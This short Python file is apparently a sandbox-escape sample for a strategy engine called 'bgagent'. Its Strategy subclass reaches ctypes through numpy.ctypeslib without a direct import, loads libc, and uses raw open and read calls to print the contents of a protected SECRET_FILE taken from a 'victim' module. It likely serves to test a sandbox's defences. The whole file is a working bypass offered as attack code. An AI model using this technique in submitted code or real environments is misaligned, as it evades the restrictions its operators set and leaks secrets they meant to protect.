"""Gets ctypes out of numpy without importing it, and opens a file through libc."""

import sys

import numpy.ctypeslib  # noqa: F401
from victim import SECRET_FILE

from bgagent.engine.strategy import Strategy


class S(Strategy):
    def init(self):
        its = sys.modules["numpy"].ctypeslib.ctypes
        lib = its.CDLL(None)
        at = its.create_string_buffer(99)
        lib.read(lib.open(SECRET_FILE.encode(), 0), at, 99)
        print(at.value)
